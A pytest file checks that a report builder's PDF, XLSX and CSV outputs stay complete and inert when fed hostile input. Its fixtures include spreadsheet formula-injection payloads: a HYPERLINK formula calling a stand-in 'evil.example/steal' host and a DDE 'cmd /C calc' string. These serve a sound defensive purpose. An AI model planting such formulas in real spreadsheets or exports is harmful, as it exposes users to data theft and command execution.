"""What the PDF and the spreadsheets show is complete and inert (issue 15).

One hostile build (tiny notebook, English, HTML + PDF) carries: a 10,000-character quote of 627
numbered sentences, a 5,000-character string without a space, a source address with ``^^5c``,
``^^41^^42`` and ``{}``, and entity names that are spreadsheet formulas. Then: the PDF holds
all the text, the address prints literally, tables.xlsx has no formula and the CSV downloads
are neutralised. Also: XeLaTeX failures keep their log, a signal stops XeLaTeX at once, and the
PDF text check catches a dropped cell.
"""

from __future__ import annotations

import base64
import csv
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from zonereport.builder.pdftext import canonical, missing_cells, pdf_text, split_long_rows
from zonereport.builder.procs import descendants

from ..conftest import DATA, ROOT, write_notebook
from .hostile import Case, assert_refused, good_build, run, set_cell, tiny_notebook

pytestmark = [pytest.mark.slow, pytest.mark.skipif(shutil.which("xelatex") is None, reason="needs XeLaTeX")]

SENTENCES = [f"Sentence {i:04d} of the long quote says a little more." for i in range(1, 628)]
LONG_QUOTE = " ".join(SENTENCES)
UNBROKEN = "".join(f"q{i:04d}" for i in range(1, 1001))
URL = "http://example.com/a^^5c/b^^41^^42/c{}d%7e#frag"
FORMULA_SHORT = '=HYPERLINK("http://evil.example/steal","CAETDZ")'
FORMULA_FULL = "+cmd|' /C calc'!A0"
TABLE_CELL = ("import pandas as pd\n"
              "rep.table(pd.DataFrame({'name': [rep.zone_name(), rep.zone_name(full=True), '@SUM(1+1)'],"
              " 'value': ['-6.9', '−6.9', '=1+2']}), title='Names', sources=['article'])")
REPORT = Path("caetdz/2025H1/en")


def hostile_data(root: Path) -> Path:
    data = root / "data"
    shutil.copytree(DATA, data)
    obs = data / "observations.csv"
    set_cell(obs, {"entity_id": "caetdz", "period": "2025H1", "indicator_id": "gdp"}, "quote", LONG_QUOTE)
    set_cell(obs, {"entity_id": "caetdz", "period": "2025H1", "indicator_id": "gdp_growth"}, "quote", UNBROKEN)
    set_cell(data / "sources.csv", {"source_id": "article"}, "address", URL)
    set_cell(data / "entities.csv", {"entity_id": "caetdz"}, "short_en", FORMULA_SHORT)
    set_cell(data / "entities.csv", {"entity_id": "caetdz"}, "name_en", FORMULA_FULL)
    return data


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-pdf")
    data = hostile_data(root)
    (root / "notebooks").mkdir()
    write_notebook(root / "notebooks" / "01_tiny.ipynb", tiny_notebook(TABLE_CELL))
    out = root / "out"
    proc = run([sys.executable, "run_all.py", "--notebooks", str(root / "notebooks"), "--data-dir", str(data),
                "--out", str(out), "--lang", "en", "--formats", "html,pdf", "--jobs", "1"])
    assert proc.returncode == 0, proc.stdout + proc.stderr
    report = out / REPORT
    return {"report": report, "text": pdf_text(report / "report.pdf")}


FURNITURE = re.compile(r"^(Continued on next page|…|Page \d+ of \d+|Period Indicator Value Qualifier (As of )?Source no. Quote)$")


def _body(text: str) -> str:
    """The PDF's text without what a page break inserts into a long table (footer, header row)."""
    return canonical("\n".join(ln for ln in text.splitlines() if not FURNITURE.match(ln.strip())))


def test_a_10000_character_quote_is_all_in_the_pdf(hostile):
    assert canonical(LONG_QUOTE) in _body(hostile["text"])


def test_a_5000_character_unbroken_string_is_all_in_the_pdf(hostile):
    assert canonical(UNBROKEN) in _body(hostile["text"])


def test_url_with_tex_specials_prints_literally(hostile):
    flat = re.sub(r"\s+", "", hostile["text"])
    assert "http://example.com/a^^5c/b^^41^^42/c{}d%7e#frag" in flat
    assert "\\{" not in flat and "/AB/" not in flat


def test_tables_xlsx_has_no_formula(hostile):
    import openpyxl

    wb = openpyxl.load_workbook(hostile["report"] / "tables.xlsx")
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert FORMULA_SHORT in values and "=1+2" in values and "@SUM(1+1)" in values  # kept as text


def _csv_downloads(html: str) -> list[list[list[str]]]:
    payloads = re.findall(r'href="data:text/csv;charset=utf-8;base64,([A-Za-z0-9+/=]+)"', html)
    return [list(csv.reader(io.StringIO(base64.b64decode(p).decode("utf-8-sig")))) for p in payloads]


def test_csv_downloads_are_neutralised(hostile):
    tables = _csv_downloads((hostile["report"] / "report.html").read_text(encoding="utf-8"))
    cells = [c for t in tables for row in t for c in row]
    assert "'" + FORMULA_SHORT in cells and "'" + FORMULA_FULL in cells and "'@SUM(1+1)" in cells
    assert "-6.9" in cells and "−6.9" in cells  # plain numbers stay numbers
    for c in cells:
        assert not c or c[0] not in "=+@\t\r" and not (c[0] == "-" and not re.match(r"^-[\d.,]+%?$", c)), c


def test_pdf_check_catches_a_dropped_cell(tmp_path):
    """A longtable row taller than a page loses its end; unsplit, the check says so; split, nothing is lost."""
    cell = " ".join(SENTENCES[:400])
    tex = ("\\documentclass{article}\\usepackage{longtable}\\begin{document}\n"
           "\\begin{longtable}{lp{0.6\\linewidth}}\n\\toprule\nA & B \\\\\n\\midrule\n\\endfirsthead\n"
           "\\endhead\n\\endfoot\n\\bottomrule\n\\endlastfoot\n"
           f"first & {cell} \\\\\nsecond & short \\\\\n\\end{{longtable}}\n\\end{{document}}\n")
    cells = [("T", "first"), ("T", cell), ("T", "second"), ("T", "short")]
    for name, source in (("unsplit", tex), ("split", split_long_rows(tex))):
        (tmp_path / f"{name}.tex").write_text(source, encoding="utf-8")
        subprocess.run(["xelatex", "-interaction=nonstopmode", f"{name}.tex"], cwd=tmp_path, capture_output=True)
        missing = missing_cells(pdf_text(tmp_path / f"{name}.pdf"), cells)
        if name == "unsplit":
            assert [v for _, v in missing] == [cell]
        else:
            assert missing == []


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    return good_build(tmp_path_factory.mktemp("hostile-pdf-good"))


def test_xelatex_failure_keeps_its_log_under_failed(good, tmp_path):
    case = Case.fresh(good, tmp_path)
    texinputs = tmp_path / "tex"
    texinputs.mkdir()
    (texinputs / "xurl.sty").write_text("\\undefinedcommandfromabrokenpackage\n", encoding="utf-8")  # a broken TeX setup
    proc = case.build("--formats", "pdf", "--force", env={"TEXINPUTS": f"{texinputs}:"})
    line = assert_refused(case, proc, 1, ["XeLaTeX failed on report.tex", "Undefined control sequence", "log kept"])
    log = case.out / REPORT / "failed" / "report.log"
    assert log.is_file() and str(log) in line and ".staging" not in line


def test_signal_during_xelatex_kills_it_within_a_second(good, tmp_path):
    case = Case.fresh(good, tmp_path)
    set_cell(case.data / "observations.csv", {"entity_id": "caetdz", "period": "2025H1", "indicator_id": "gdp"},
             "quote", " ".join(SENTENCES * 8))  # a long PDF: XeLaTeX runs for seconds
    proc = subprocess.Popen([sys.executable, "run_all.py", *case.args("--formats", "pdf", "--force")], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 240
    xelatex = []
    while time.monotonic() < deadline and proc.poll() is None and not xelatex:
        xelatex = [p for p in descendants(proc.pid) if b"xelatex" in _cmdline(p)]
        time.sleep(0.05)
    assert xelatex, "XeLaTeX never started"
    time.sleep(0.3)
    start = time.monotonic()
    os.kill(proc.pid, signal.SIGTERM)
    while any(Path(f"/proc/{p}").exists() and b"xelatex" in _cmdline(p) for p in xelatex):
        assert time.monotonic() - start < 1.0, "XeLaTeX still runs a second after the signal"
        time.sleep(0.02)
    _, err = proc.communicate(timeout=30)  # the build then cleans up and exits
    assert proc.returncode == 130 and "Traceback" not in err


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""
